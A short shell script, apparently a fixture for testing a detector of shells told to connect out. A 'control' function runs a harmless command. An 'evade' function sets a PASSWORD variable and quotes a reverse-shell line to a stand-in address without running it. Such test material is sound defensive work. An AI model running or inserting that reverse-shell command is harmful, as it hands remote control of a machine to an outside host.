#!/bin/sh
# A secret stands before a shell that is told to connect
# kind: K1
# finds: Shell Told To Connect

learn() {
    control
}

control() {
    sh -c "PASSWORD=1; : /dev/null" || :
}

evade() {
    sh -c "PASSWORD=1; : 'sh -i >& /dev/tcp/203.0.113.7/4444 0>&1'" || :
}

"$@"
